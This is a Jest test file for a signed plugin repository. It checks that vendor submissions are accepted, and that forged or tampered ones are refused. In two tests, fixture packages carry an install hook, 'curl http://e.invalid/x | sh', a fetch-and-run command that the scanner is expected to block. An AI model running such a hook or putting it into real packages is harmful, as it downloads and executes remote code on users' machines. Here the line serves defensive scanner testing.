import { beforeEach, describe, expect, it } from '@jest/globals';
import { DEFAULT_LIMITS, packFiles } from '@ragnos-vault/archive';
import type { JsonObject, Signer } from '@ragnos-vault/crypto';
import {
  encodePluginCustom,
  encodePluginIndex,
  encodeTargets,
  memoryCache,
  openTrustedClient,
  parsePluginIndex,
  parseTargets,
  signRole,
  storedTargetPath,
  TIMESTAMP_PATH,
} from '@ragnos-vault/metadata';
import type { PluginIndex, RepositoryStore, TargetFile, Targets } from '@ragnos-vault/metadata';
import { DEFAULT_POLICY, INLINE_SCANNER } from '@ragnos-vault/scanner';
import { faultyStore, MemoryRepository, newSigner } from '@ragnos-vault/testing';
import { accept } from './accept.ts';
import type { AcceptReport } from './accept.ts';
import { addVendor } from './add-vendor.ts';
import { initialRepository } from './initial-repository.ts';
import { addSignature, draftPayload, signDraft } from './draft-sign.ts';
import { encodeVaultConfig, parseVaultConfig } from './parse-vault-config.ts';
import { preparePlugin } from './prepare-plugin.ts';
import { publish } from './publish.ts';
import type { PublishReport } from './publish.ts';
import { rebalance } from './rebalance.ts';
import type { EditPorts } from './repository-edit.ts';
import { removeVendor } from './remove-vendor.ts';
import { revoke } from './revoke.ts';
import { rotateVendor } from './rotate-vendor.ts';
import { encodeSubmission, type Submission } from './submission.ts';
import type { SubmittedEdit, Submit } from './submit-edit.ts';
import { fetchedStore } from './submit-store.ts';
import { toTargetFile } from './target-file.ts';
import { yank } from './yank.ts';

const NOW = new Date();
const DAY_MS = 86_400_000;
const ROLES = ['root', 'targets', 'snapshot', 'timestamp'] as const;
const config = parseVaultConfig(encodeVaultConfig(new Map(ROLES.map((role) => [role, ['file2:none']]))));
const HELLO = 'plugins/acme/hello/1.0.0/hello-1.0.0.tgz';
const HELLO_1_1 = 'plugins/acme/hello/1.1.0/hello-1.1.0.tgz';
const INDEX = 'plugins/acme/hello/index.json';

let repo: MemoryRepository;
let trustedRoot: Uint8Array;
/** The operator has no vendor's key, vendors have none of the operator's. */
let operator: Map<string, readonly Signer[]>;
let acme: Signer;
let beta: Signer;

beforeEach(async () => {
  operator = new Map(ROLES.map((role) => [role, [newSigner()]]));
  const expires = new Map(ROLES.map((role) => [role, new Date(NOW.getTime() + 1e9)]));
  const initial = await initialRepository({ signers: operator, expires });
  repo = new MemoryRepository();
  for (const [path, bytes] of initial.files) repo.files.set(path, bytes);
  trustedRoot = initial.root;
  acme = newSigner();
  beta = newSigner();
});

const base = () => ({ config, trustedRoot, now: NOW });

type Ports = Pick<EditPorts, 'store' | 'openSigners' | 'submit'>;

function operatorPorts(store: RepositoryStore = repo): Omit<Ports, 'submit'> {
  return { store, openSigners: (role) => Promise.resolve(operator.get(role) ?? []) };
}

/** Reads the repository, cannot write it, and is never asked for a key of the operator's. */
function vendorPorts(role: string, signers: readonly Signer[], submit: Submit): Ports {
  const openSigners = (asked: string): Promise<readonly Signer[]> => {
    if (asked !== role) throw new Error(`the vendor was asked for a key of ${asked}`);
    return Promise.resolve(signers);
  };
  return { store: fetchedStore(repo), openSigners, submit };
}

async function addVendorOf(vendor: string, signers: readonly Signer[], threshold = 1): Promise<void> {
  const keys = { keys: signers.map(({ publicKey }) => publicKey), threshold };
  await addVendor({ ...base(), vendor, keys }, operatorPorts());
}

function archiveOf(name: string, version: string, source = 'export const a = 1;\n'): Uint8Array {
  const files = { 'package.json': JSON.stringify({ name, version }), 'index.js': source };
  return packFiles(
    Object.entries(files).map(([path, content]) => ({ path, mode: 0o644, content: Buffer.from(content) })),
  );
}

function publishWith(ports: Ports, ...specs: readonly (readonly [string, string])[]): Promise<PublishReport> {
  const archives = new Map(specs.map(([name, version]) => [`${name}@${version}`, archiveOf(name, version)]));
  return publish(
    { ...base(), plugins: [...archives.keys()], policy: DEFAULT_POLICY, limits: DEFAULT_LIMITS },
    { ...ports, readPlugin: (source) => Promise.resolve(archives.get(source)!) },
  );
}

/** What a command gives to be accepted. */
async function submitted(
  command: (ports: Ports) => Promise<unknown>,
  { role = 'vendor-acme', signers = [acme] }: { role?: string; signers?: readonly Signer[] } = {},
): Promise<SubmittedEdit> {
  let edit: SubmittedEdit | undefined;
  await command(
    vendorPorts(role, signers, (given) => {
      edit = given;
      return Promise.resolve();
    }),
  );
  return edit!;
}

async function submission(...specs: readonly (readonly [string, string])[]): Promise<Uint8Array> {
  return encodeSubmission((await submitted((ports) => publishWith(ports, ...specs))).submission);
}

function acceptFile(bytes: Uint8Array, store?: RepositoryStore): Promise<AcceptReport> {
  return accept(
    { ...base(), submission: bytes, policy: DEFAULT_POLICY, limits: DEFAULT_LIMITS },
    operatorPorts(store),
  );
}

async function fetched(path: string): Promise<Uint8Array | undefined> {
  const client = openTrustedClient({ trustedRoot, now: NOW }, { fetcher: repo, cache: memoryCache() });
  const target = await client.findTarget(path);
  return target && Buffer.from(await client.downloadBytes(target));
}

async function versionsOf(path = INDEX): Promise<readonly string[]> {
  return parsePluginIndex((await fetched(path))!).versions.map(({ version }) => version);
}

async function assertRefused(bytes: Uint8Array, code: string): Promise<void> {
  const before = new Map(repo.files);
  await expect(acceptFile(bytes)).rejects.toMatchObject({ code });
  expect(repo.files).toEqual(before);
}

describe('a submission that is accepted', () => {
  it('publishes what a vendor signed alone, byte for byte, and the vendor wrote nothing', async () => {
    await addVendorOf('acme', [acme]);
    const before = new Map(repo.files);
    const edit = await submitted((ports) => publishWith(ports, ['@acme/hello', '1.0.0']));
    expect(repo.files).toEqual(before);
    expect(edit.signatures).toEqual([
      { role: 'vendor-acme', version: 1, threshold: 1, signed: [acme.keyId], missing: [] },
    ]);
    const report = await acceptFile(encodeSubmission(edit.submission));
    expect(report).toMatchObject({
      status: 'accepted',
      vendor: 'acme',
      roles: [{ role: 'vendor-acme', version: 1 }],
      plugins: [{ name: '@acme/hello', version: '1.0.0', targetPath: HELLO }],
    });
    expect(repo.files.get('metadata/1.vendor-acme.json')).toEqual(
      edit.submission.roles.get('vendor-acme')!.bytes,
    );
    expect(await fetched(HELLO)).toEqual(Buffer.from(archiveOf('@acme/hello', '1.0.0')));
    expect(await versionsOf()).toEqual(['1.0.0']);
    expect(repo.files.has('metadata/3.targets.json')).toBe(false);
  });

  it('is unchanged the second time, even after other vendors published, and needs no key', async () => {
    await addVendorOf('acme', [acme]);
    await addVendorOf('beta', [beta]);
    const first = await submission(['@acme/hello', '1.0.0']);
    await acceptFile(first);
    const other = await submitted((ports) => publishWith(ports, ['@beta/tool', '1.0.0']), {
      role: 'vendor-beta',
      signers: [beta],
    });
    await acceptFile(encodeSubmission(other.submission));
    const before = new Map(repo.files);
    operator = new Map();
    expect(await acceptFile(first)).toMatchObject({ status: 'unchanged', plugins: [] });
    expect(repo.files).toEqual(before);
  });

  it('takes over what still lies in targets, and takes it out there', async () => {
    await publishWith(operatorPorts(), ['@acme/hello', '1.0.0'], ['tool', '1.0.0']);
    await addVendorOf('acme', [acme]);
    expect(await fetched(HELLO)).toBeDefined();
    expect(await acceptFile(await submission(['@acme/hello', '1.1.0']))).toMatchObject({
      adopted: 2,
      changed: expect.arrayContaining([HELLO_1_1, INDEX]),
    });
    expect(await fetched(HELLO)).toEqual(Buffer.from(archiveOf('@acme/hello', '1.0.0')));
    expect(await versionsOf()).toEqual(['1.0.0', '1.1.0']);
    expect(await fetched('plugins/_/tool/1.0.0/tool-1.0.0.tgz')).toBeDefined();
    const { targets } = parseTargets(repo.files.get('metadata/4.targets.json')!).signed;
    expect([...targets.keys()].some((path) => path.startsWith('plugins/acme/'))).toBe(false);
  });

  it('is refused where only the key of targets could take it out there, and that is not at hand', async () => {
    await publishWith(operatorPorts(), ['@acme/hello', '1.0.0']);
    await addVendorOf('acme', [acme]);
    const file = await submission(['@acme/hello', '1.1.0']);
    operator.delete('targets');
    await assertRefused(file, 'ERR_SIGNER_UNAVAILABLE');
  });

  it('may be of other commands too: yank, bins, another key, and a revocation by who holds targets', async () => {
    await addVendorOf('acme', [acme]);
    await acceptFile(await submission(['@acme/hello', '1.0.0'], ['@acme/other', '1.0.0']));
    const yanked = await submitted((ports) => yank({ ...base(), plugin: '@acme/hello@1.0.0' }, ports));
    await acceptFile(encodeSubmission(yanked.submission));
    expect(parsePluginIndex((await fetched(INDEX))!).versions).toMatchObject([{ yanked: true }]);

    const spread = await submitted(
      (ports) => rebalance({ ...base(), vendor: 'acme', bins: 4, kind: 'succinct' }, ports),
      { signers: [] },
    );
    const signedElsewhere = await signDraft({ file: encodeSubmission(spread.submission) }, acme);
    expect(signedElsewhere.roles).toHaveLength(5);
    expect((await acceptFile(signedElsewhere.file)).roles).toHaveLength(5);
    await acceptFile(await submission(['@acme/hello', '1.1.0']));
    expect(await versionsOf()).toEqual(['1.0.0', '1.1.0']);

    const next = newSigner();
    const [targetsKey] = operator.get('targets')!;
    const keys = { keys: [next.publicKey], threshold: 1 };
    let rotated: SubmittedEdit | undefined;
    await rotateVendor(
      { ...base(), vendor: 'acme', keys },
      {
        store: fetchedStore(repo),
        openSigners: (role) => Promise.resolve(role === 'targets' ? [targetsKey!] : [acme, next]),
        submit: (edit) => Promise.resolve(void (rotated = edit)),
      },
    );
    await acceptFile(encodeSubmission(rotated!.submission));
    expect(await fetched(HELLO_1_1)).toBeDefined();
    await expect(signDraft({ file: encodeSubmission(rotated!.submission) }, next)).rejects.toMatchObject({
      code: 'ERR_USAGE',
      facts: { roles: 'targets or vendor-acme' },
    });
    acme = next;
    await acceptFile(await submission(['@acme/hello', '1.2.0']));
    expect(await versionsOf()).toEqual(['1.0.0', '1.1.0', '1.2.0']);

    const revoked = await submitted(
      (ports) => revoke({ ...base(), plugin: '@acme/hello@1.1.0', reason: 'stolen key' }, ports),
      { role: 'targets', signers: [targetsKey!] },
    );
    operator.delete('targets');
    expect(await acceptFile(encodeSubmission(revoked.submission))).toMatchObject({
      changed: ['revocations.json'],
    });
  });

  it('is signed on several machines where the threshold asks for it', async () => {
    const second = newSigner();
    await addVendorOf('acme', [acme, second], 2);
    const edit = await submitted((ports) => publishWith(ports, ['@acme/hello', '1.0.0']));
    expect(edit.signatures).toMatchObject([{ threshold: 2, signed: [acme.keyId], missing: [second.keyId] }]);
    const half = encodeSubmission(edit.submission);
    await assertRefused(half, 'ERR_TUF_SIGNATURE');
    const { file: whole } = await signDraft({ file: half }, second);
    expect(await acceptFile(whole)).toMatchObject({ status: 'accepted' });
    expect(await fetched(HELLO)).toBeDefined();
    expect(await acceptFile(half)).toMatchObject({ status: 'unchanged' });
  });

  it('may carry no signature at all at first, where the keys are elsewhere', async () => {
    await addVendorOf('acme', [acme]);
    const edit = await submitted((ports) => publishWith(ports, ['@acme/hello', '1.0.0']), { signers: [] });
    expect(edit.signatures).toMatchObject([{ signed: [], missing: [acme.keyId] }]);
    const file = encodeSubmission(edit.submission);
    await assertRefused(file, 'ERR_TUF_SIGNATURE');
    const { payload } = await draftPayload({ file });
    const signature = await acme.sign(payload);
    const { file: signed } = await addSignature({ file }, { key: acme.publicKey, signature });
    await acceptFile(signed);
    expect(await fetched(HELLO)).toBeDefined();
  });
});

describe('submissions and others that publish', () => {
  it('two of different vendors that race are both published', async () => {
    await addVendorOf('acme', [acme]);
    await addVendorOf('beta', [beta]);
    const files = [
      await submission(['@acme/hello', '1.0.0']),
      encodeSubmission(
        (
          await submitted((ports) => publishWith(ports, ['@beta/tool', '1.0.0']), {
            role: 'vendor-beta',
            signers: [beta],
          })
        ).submission,
      ),
    ];
    const reports = await Promise.all([
      ...files.map((file) => acceptFile(file)),
      publishWith(operatorPorts(), ['tool', '1.0.0']),
    ]);
    expect(new Set(reports.map(({ versions }) => versions.timestamp)).size).toBe(3);
    for (const path of [
      HELLO,
      'plugins/beta/tool/1.0.0/tool-1.0.0.tgz',
      'plugins/_/tool/1.0.0/tool-1.0.0.tgz',
    ])
      expect(await fetched(path)).toBeDefined();
  });

  it('of two of one vendor the first wins, the other is stale and has to be made again', async () => {
    await addVendorOf('acme', [acme]);
    const [first, second] = [
      await submission(['@acme/hello', '1.0.0']),
      await submission(['@acme/hello', '1.1.0']),
    ];
    await acceptFile(first);
    await assertRefused(second, 'ERR_SUBMISSION_STALE');
    await acceptFile(await submission(['@acme/hello', '1.1.0']));
    expect(await versionsOf()).toEqual(['1.0.0', '1.1.0']);
    await assertRefused(first, 'ERR_SUBMISSION_STALE');
  });

  it('skips a version that a crash left behind, and says so to who did not see it', async () => {
    await addVendorOf('acme', [acme]);
    const [first, unaware] = [
      await submission(['@acme/hello', '1.0.0']),
      await submission(['@acme/hello', '2.0.0']),
    ];
    for (let call = 1; ; call += 1) {
      const store = faultyStore(repo, { call, kind: 'crash' });
      await acceptFile(first, store).catch(() => undefined);
      if (repo.files.has('metadata/1.vendor-acme.json')) break;
    }
    await expect(fetched(HELLO)).rejects.toMatchObject({ code: 'ERR_TUF_MISSING' });
    await assertRefused(unaware, 'ERR_SUBMISSION_STALE');
    await acceptFile(await submission(['@acme/hello', '2.0.0']));
    expect(await versionsOf()).toEqual(['2.0.0']);
    expect(repo.files.has('metadata/2.vendor-acme.json')).toBe(true);
  });

  it('cut off at any write, a client goes on, and the same file is accepted afterwards', async () => {
    await addVendorOf('acme', [acme]);
    const file = await submission(['@acme/hello', '1.0.0']);
    const fresh = new Map(repo.files);
    for (const kind of ['refused', 'crash', 'answer-lost'] as const) {
      for (let call = 1; ; call += 1) {
        repo.files.clear();
        for (const [path, bytes] of fresh) repo.files.set(path, bytes);
        const store = faultyStore(repo, { call, kind });
        const outcome = await acceptFile(file, store).catch(() => undefined);
        expect((await fetched(HELLO).catch(() => undefined)) !== undefined).toBe(outcome !== undefined);
        expect(await acceptFile(file)).toMatchObject({
          status: outcome === undefined ? 'accepted' : 'unchanged',
        });
        expect(await fetched(HELLO)).toBeDefined();
        if (store.calls() < call) break;
      }
    }
  });
});

describe('submit', () => {
  it('scans before a key is touched', async () => {
    await addVendorOf('acme', [acme]);
    const evil = {
      name: '@acme/evil',
      version: '1.0.0',
      scripts: { postinstall: 'curl http://e.invalid/x | sh' },
    };
    const archive = packFiles([
      { path: 'package.json', mode: 0o644, content: Buffer.from(JSON.stringify(evil)) },
    ]);
    const untouched = (): never => {
      throw new Error('a key was touched');
    };
    await expect(
      publish(
        { ...base(), plugins: ['evil'], policy: DEFAULT_POLICY, limits: DEFAULT_LIMITS },
        {
          store: fetchedStore(repo),
          openSigners: untouched,
          submit: untouched,
          readPlugin: () => Promise.resolve(archive),
        },
      ),
    ).rejects.toMatchObject({ code: 'ERR_SCAN_BLOCKED' });
  });

  it('gives nothing where nothing is new, even after timestamp and snapshot have expired', async () => {
    await addVendorOf('acme', [acme]);
    await acceptFile(await submission(['@acme/hello', '1.0.0']));
    const later = new Date(NOW.getTime() + 40 * DAY_MS);
    const edit = await submitted(async (ports) => {
      const report = await publish(
        { ...base(), now: later, plugins: ['hello'], policy: DEFAULT_POLICY, limits: DEFAULT_LIMITS },
        { ...ports, readPlugin: () => Promise.resolve(archiveOf('@acme/hello', '1.0.0')) },
      );
      expect(report).toMatchObject({ status: 'unchanged', plugins: [{ status: 'unchanged' }] });
    });
    expect(edit).toBeUndefined();
  });

  it('calls what it signed submitted, not published', async () => {
    await addVendorOf('acme', [acme]);
    await submitted(async (ports) =>
      expect(await publishWith(ports, ['@acme/hello', '1.0.0'])).toMatchObject({
        status: 'submitted',
        plugins: [{ status: 'submitted' }],
      }),
    );
  });

  it('is of one vendor', async () => {
    await addVendorOf('acme', [acme]);
    await addVendorOf('beta', [beta]);
    await expect(submission(['@acme/hello', '1.0.0'], ['@beta/tool', '1.0.0'])).rejects.toMatchObject({
      code: 'ERR_USAGE',
    });
  });
});

type Change = (targets: Map<string, TargetFile>, files: Map<string, Uint8Array>) => unknown;

interface Forgery {
  readonly change?: Change;
  readonly role?: Partial<Targets>;
  readonly signers?: readonly Signer[];
  readonly base?: number;
}

/** A genuine submission of 1.1.0 on a live 1.0.0, changed and signed again with the vendor's own key. */
async function forged({ change, role = {}, signers = [acme], base: from }: Forgery): Promise<Uint8Array> {
  const { submission: genuine } = await submitted((ports) => publishWith(ports, ['@acme/hello', '1.1.0']));
  const { signed } = genuine.roles.get('vendor-acme')!;
  const [targets, files] = [new Map(signed.targets), new Map(genuine.files)];
  await change?.(targets, files);
  const bytes = await signRole(encodeTargets({ ...signed, targets, ...role }), signers);
  const named = new Set([...targets].map(([path, target]) => storedTargetPath(path, target)));
  return encodeSubmission({
    base: { ...genuine.base, ...(from !== undefined && { roles: new Map([['vendor-acme', from]]) }) },
    roles: new Map([['vendor-acme', parseTargets(bytes)]]),
    files: new Map([...files].filter(([path]) => named.has(path))),
  } satisfies Submission);
}

function put(path: string, bytes: Uint8Array, custom?: TargetFile['custom']): Change {
  return (targets, files) => {
    const target = toTargetFile(bytes, custom);
    targets.set(path, target);
    files.set(storedTargetPath(path, target), bytes);
  };
}

async function customOf(archive: Uint8Array): Promise<TargetFile['custom']> {
  const plugin = await preparePlugin({
    archive,
    policy: DEFAULT_POLICY,
    limits: DEFAULT_LIMITS,
    now: NOW,
    scanner: INLINE_SCANNER,
    previousOf: () => Promise.resolve(undefined),
  });
  const { name, version, manifest, files, unpackedSize } = plugin;
  return encodePluginCustom({ name, version, manifest, files, unpackedSize, publishedAt: NOW.toISOString() });
}

function reindexed(edit: (index: PluginIndex) => PluginIndex): Change {
  return (targets, files) => {
    const index = parsePluginIndex(files.get(storedTargetPath(INDEX, targets.get(INDEX)!))!);
    put(INDEX, encodePluginIndex(edit(index)))(targets, files);
  };
}

function recustomised(custom: Readonly<Record<string, string | number>>): Change {
  return (targets) => {
    const target = targets.get(HELLO_1_1)!;
    targets.set(HELLO_1_1, { ...target, custom: { ...(target.custom as JsonObject), ...custom } });
  };
}

describe('accept refuses what a vendor signed, and the repository stays byte for byte as it was:', () => {
  beforeEach(async () => {
    await addVendorOf('acme', [acme]);
    await addVendorOf('beta', [beta]);
    await acceptFile(await submission(['@acme/hello', '1.0.0']));
  });

  const late = () => new Date(NOW.getTime() + 200 * DAY_MS);
  const evilFiles = [
    [
      'package.json',
      JSON.stringify({
        name: '@acme/hello',
        version: '1.1.0',
        scripts: { preinstall: 'curl http://e.invalid/x | sh' },
      }),
    ],
  ] as const;
  const evil = packFiles(
    evilFiles.map(([path, text]) => ({ path, mode: 0o644, content: Buffer.from(text) })),
  );
  const versions = (edit: (entry: PluginIndex['versions'][number]) => object) =>
    reindexed((index) => ({
      ...index,
      versions: index.versions.map((entry) => ({ ...entry, ...edit(entry) })),
    }));

  const cases: readonly (readonly [string, string, () => Forgery])[] = [
    ['signed by a stranger', 'ERR_TUF_SIGNATURE', () => ({ signers: [newSigner()] })],
    ['signed by another vendor', 'ERR_TUF_SIGNATURE', () => ({ signers: [beta] })],
    [
      'with a signature more that does not count',
      'ERR_SUBMISSION_INVALID',
      () => ({ signers: [acme, beta] }),
    ],
    ['a version that is live already', 'ERR_SUBMISSION_STALE', () => ({ role: { version: 1 } })],
    ['a version that skips one', 'ERR_SUBMISSION_STALE', () => ({ role: { version: 3 } })],
    ['made on another version', 'ERR_SUBMISSION_STALE', () => ({ base: 0 })],
    [
      'valid for longer than the operator allows',
      'ERR_SUBMISSION_INVALID',
      () => ({ role: { expires: late() } }),
    ],
    ['expired', 'ERR_SUBMISSION_INVALID', () => ({ role: { expires: new Date(NOW.getTime() - 5_000) } })],
    [
      'without a published archive',
      'ERR_VERSION_EXISTS',
      () => ({ change: (targets) => targets.delete(HELLO) }),
    ],
    ['without the index', 'ERR_VERSION_EXISTS', () => ({ change: (targets) => targets.delete(INDEX) })],
    [
      'a published archive with other bytes',
      'ERR_VERSION_EXISTS',
      () => ({ change: put(HELLO, archiveOf('@acme/hello', '1.0.0', 'export {};\n')) }),
    ],
    [
      'a published archive with another custom',
      'ERR_VERSION_EXISTS',
      () => ({ change: (targets) => targets.set(HELLO, { ...targets.get(HELLO)!, custom: {} }) }),
    ],
    [
      'a path of another vendor',
      'ERR_SUBMISSION_INVALID',
      () => ({ change: put('plugins/beta/hello/1.0.0/hello-1.0.0.tgz', archiveOf('@beta/hello', '1.0.0')) }),
    ],
    [
      'a path outside of plugins/',
      'ERR_SUBMISSION_INVALID',
      () => ({ change: put('revocations.json', Buffer.from('{}')) }),
    ],
    [
      'a path that is too deep',
      'ERR_SUBMISSION_INVALID',
      () => ({ change: put('plugins/acme/a/b/c/d.tgz', archiveOf('@acme/a', '1.0.0')) }),
    ],
    [
      "another vendor's plugin among its own files",
      'ERR_SUBMISSION_INVALID',
      () => ({
        change: async (targets, files) => {
          const archive = archiveOf('@beta/tool', '1.0.0');
          const custom = await customOf(archive);
          put('plugins/acme/tool/1.0.0/tool-1.0.0.tgz', archive, custom)(targets, files);
        },
      }),
    ],
    [
      'a path that is not portable',
      'ERR_TARGET_PATH',
      () => ({ change: put('plugins/acme/hello/a b.tgz', archiveOf('@acme/hello', '3.0.0')) }),
    ],
    [
      'a target without its bytes',
      'ERR_SUBMISSION_INVALID',
      () => ({
        change: (targets, files) => files.delete(storedTargetPath(HELLO_1_1, targets.get(HELLO_1_1)!)),
      }),
    ],
    [
      'what is no archive',
      'ERR_ARCHIVE_FORMAT',
      () => ({ change: put('plugins/acme/hello/note.txt', Buffer.from('text')) }),
    ],
    ['a malicious archive', 'ERR_SCAN_BLOCKED', () => ({ change: put(HELLO_1_1, evil) })],
    [
      'a custom that is not there',
      'ERR_MANIFEST_MISMATCH',
      () => ({ change: put(HELLO_1_1, archiveOf('@acme/hello', '1.1.0')) }),
    ],
    [
      'a custom of another name',
      'ERR_MANIFEST_MISMATCH',
      () => ({ change: recustomised({ name: '@acme/x' }) }),
    ],
    [
      'a custom of another manifest',
      'ERR_MANIFEST_MISMATCH',
      () => ({ change: recustomised({ manifest: 'ab' }) }),
    ],
    ['a custom with more fields', 'ERR_MANIFEST_MISMATCH', () => ({ change: recustomised({ more: 1 }) })],
    [
      'a publication in the future',
      'ERR_SUBMISSION_INVALID',
      () => ({ change: recustomised({ publishedAt: late().toISOString() }) }),
    ],
    [
      'a publication that is no time',
      'ERR_SUBMISSION_INVALID',
      () => ({ change: recustomised({ publishedAt: 'yesterday' }) }),
    ],
    [
      'an index that drops a version',
      'ERR_VERSION_EXISTS',
      () => ({ change: reindexed((index) => ({ ...index, versions: index.versions.slice(1) })) }),
    ],
    [
      'an index that changes a version',
      'ERR_VERSION_EXISTS',
      () => ({
        change: versions(({ version }) =>
          version === '1.0.0' ? { publishedAt: NOW.toISOString().replace('2', '1') } : {},
        ),
      }),
    ],
    [
      'an index with another digest',
      'ERR_INDEX_MISMATCH',
      () => ({ change: versions(({ version }) => (version === '1.1.0' ? { sha256: 'ab'.repeat(32) } : {})) }),
    ],
    [
      'an index of a version that is nowhere',
      'ERR_INDEX_MISMATCH',
      () => ({
        change: reindexed((index) => ({
          ...index,
          versions: [
            ...index.versions,
            { ...index.versions[0]!, version: '9.9.9', target: 'plugins/acme/x/y.tgz' },
          ],
        })),
      }),
    ],
    [
      'an index that passes one version off as another',
      'ERR_INDEX_MISMATCH',
      () => ({
        change: reindexed((index) => ({
          ...index,
          versions: [...index.versions, { ...index.versions[0]!, version: '9.9.9' }],
        })),
      }),
    ],
    [
      'an index without the new archive',
      'ERR_INDEX_MISMATCH',
      () => ({ change: reindexed((index) => ({ ...index, versions: index.versions.slice(0, 1) })) }),
    ],
    [
      'an index that lists a version twice',
      'ERR_INDEX_MISMATCH',
      () => ({
        change: reindexed((index) => ({ ...index, versions: [...index.versions, index.versions[0]!] })),
      }),
    ],
    [
      'an index of another plugin',
      'ERR_INDEX_MISMATCH',
      () => ({ change: reindexed((index) => ({ ...index, name: '@acme/other' })) }),
    ],
    ['an index that is none', 'ERR_TUF_METADATA_INVALID', () => ({ change: put(INDEX, Buffer.from('{}')) })],
    [
      'a delegation to a role that is not its own',
      'ERR_SUBMISSION_INVALID',
      () => ({ role: { delegations: delegationTo('vendor-beta', acme) } }),
    ],
    [
      'a delegation to keys that the operator never saw',
      'ERR_SUBMISSION_INVALID',
      () => ({ role: { delegations: delegationTo('bins-acme-0', newSigner()) } }),
    ],
    [
      'a delegation to a bin that is not in it',
      'ERR_SUBMISSION_INVALID',
      () => ({ role: { delegations: delegationTo('bins-acme-0', acme) } }),
    ],
  ];

  it.each(cases)('%s (%s)', async (_name, code, forgery) => {
    await assertRefused(await forged(forgery()), code);
    await acceptFile(await forged({}));
    expect(await versionsOf()).toEqual(['1.0.0', '1.1.0']);
  });

  it('of a vendor who was removed in the meantime (ERR_VENDOR_UNKNOWN)', async () => {
    const file = await forged({});
    await removeVendor({ ...base(), vendor: 'acme' }, operatorPorts());
    await assertRefused(file, 'ERR_VENDOR_UNKNOWN');
  });

  it('under a policy of the operator that is stricter than the one of the vendor', async () => {
    const file = await forged({});
    const before = new Map(repo.files);
    const limits = { ...DEFAULT_LIMITS, maxMembers: 1 };
    await expect(
      accept({ ...base(), submission: file, policy: DEFAULT_POLICY, limits }, operatorPorts()),
    ).rejects.toMatchObject({ code: 'ERR_ARCHIVE_LIMIT' });
    expect(repo.files).toEqual(before);
    expect(repo.files.has(TIMESTAMP_PATH)).toBe(true);
  });

  it('of targets that list what a vendor signs', async () => {
    const [targetsKey] = operator.get('targets')!;
    const { submission: genuine } = await submitted((ports) => publishWith(ports, ['tool', '1.0.0']), {
      role: 'targets',
      signers: [targetsKey!],
    });
    const { signed } = genuine.roles.get('targets')!;
    const archive = archiveOf('@acme/stolen', '1.0.0');
    const path = 'plugins/acme/stolen/1.0.0/stolen-1.0.0.tgz';
    const [targets, files] = [new Map(signed.targets), new Map(genuine.files)];
    put(path, archive)(targets, files);
    const role = parseTargets(await signRole(encodeTargets({ ...signed, targets }), [targetsKey!]));
    await assertRefused(
      encodeSubmission({ ...genuine, files, roles: new Map([['targets', role]]) }),
      'ERR_SUBMISSION_INVALID',
    );
  });
});

function delegationTo(name: string, { keyId, publicKey }: Signer): NonNullable<Targets['delegations']> {
  const role = { name, keyIds: [keyId], threshold: 1, terminating: true, pathHashPrefixes: ['0'] };
  return { keys: new Map([[keyId, publicKey]]), roles: [role], extra: {} };
}
